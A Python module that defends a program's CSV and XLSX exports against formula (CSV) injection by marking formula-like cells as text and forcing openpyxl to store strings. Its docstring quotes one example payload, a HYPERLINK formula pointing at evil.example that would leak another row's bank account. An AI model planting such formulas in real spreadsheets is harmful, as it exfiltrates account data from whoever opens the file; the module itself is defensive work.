"""Cells of the CSV and XLSX files the program writes: text is never read as a formula.

Excel, WPS and LibreOffice take a cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return for a formula (CSV injection, OWASP): a name
``=HYPERLINK("http://evil.example/"&E2,"查看")`` in the bank's disbursement
file becomes a live link carrying another row's account.  ``safe_cell`` is
the one rule every writer applies: such text gets a leading apostrophe, the
spreadsheets' own "this is text" mark.  Line feed and NUL are treated the same
(OWASP ASVS lists NUL), and so are the full-width forms, which some
spreadsheets fold to the ASCII ones on input.

Numbers are decided per column: a Python int (money in yuan, counts) is never
touched, and in a column the caller calls numeric a text that is a plain
number (``-5``, ``+40``) stays as it is, so a negative figure is still a
figure.  Anything else, a phone number ``+86 20 ...`` included, is text.

``restore_text`` undoes the mark for the program's readers of such files (the
bank's result file, a corrected rejects file), so a value comes back as it
was stored.  ``safe_text`` is idempotent: a cell already marked is left alone.

XLSX: openpyxl makes a ``str`` starting with ``=`` a formula and ``#N/A`` an
error value; ``append_xlsx_row`` writes text cells as strings explicitly.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Collection, Iterable, Sequence
from typing import Any

# The first characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = frozenset("=+-@\t\r\n\0" "\uff1d\uff0b\uff0d\uff20" "\ufe66\ufe62\ufe63\ufe6b")
TEXT_MARK = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")


def formula_like(text: str) -> bool:
    """True when a spreadsheet would read ``text`` as a formula."""
    return text[:1] in FORMULA_STARTS


def safe_text(text: str) -> str:
    """``text`` as a spreadsheet shows it but never evaluates it."""
    return TEXT_MARK + text if formula_like(text) else text


def safe_cell(value: Any, *, numeric: bool = False) -> Any:
    """One cell to write: numbers as numbers, text that looks like a formula marked as text.

    ``numeric``: the column holds figures, so a text that is a plain number is kept as it is."""
    if not isinstance(value, str):
        return value  # int (yuan, counts), float, Decimal, date, bool, None: no formula there
    if numeric and _PLAIN_NUMBER.fullmatch(value):
        return value
    return safe_text(value)


def safe_row(values: Iterable[Any], *, numeric: Collection[int] = ()) -> list[Any]:
    """A row of cells to write; ``numeric`` holds the positions of the numeric columns."""
    return [safe_cell(value, numeric=index in numeric) for index, value in enumerate(values)]


def restore_text(text: str) -> str:
    """A cell read back from a file the program wrote: the mark ``safe_text`` added taken off."""
    if text[:1] == TEXT_MARK and formula_like(text[1:]):
        return text[1:]
    return text


def append_xlsx_row(sheet: Any, values: Iterable[Any], *, numeric: Collection[int] = ()) -> None:
    """Append a row to an openpyxl worksheet: text cells stored as strings, never formulas or errors."""
    sheet.append(safe_row(values, numeric=numeric))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"  # openpyxl guessed "f" for "=...", "e" for "#N/A"


__all__ = [
    "FORMULA_STARTS",
    "TEXT_MARK",
    "append_xlsx_row",
    "formula_like",
    "restore_text",
    "safe_cell",
    "safe_row",
    "safe_text",
]


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """A whole CSV file as Excel opens it: UTF-8 with a BOM (else Excel reads GBK), CRLF lines.  The
    rows are written as given: make them safe first (``safe_row``)."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def new_sheet(title: str, header: Sequence[str]) -> tuple[Any, Any]:
    """A workbook whose one sheet, ``title``, starts with ``header`` in bold: (book, sheet)."""
    from openpyxl import Workbook  # only when a workbook is asked for
    from openpyxl.styles import Font

    book = Workbook()
    sheet = book.active
    sheet.title = title
    append_xlsx_row(sheet, header)
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    return book, sheet


def xlsx_bytes(book: Any, title: str) -> bytes:
    """The workbook as a file, titled, made by the program (no person's name in its properties)."""
    book.properties.title = title
    book.properties.creator = "展翅柜台 Zhanchi Counter"
    buffer = io.BytesIO()
    book.save(buffer)
    return bytes(buffer.getvalue())
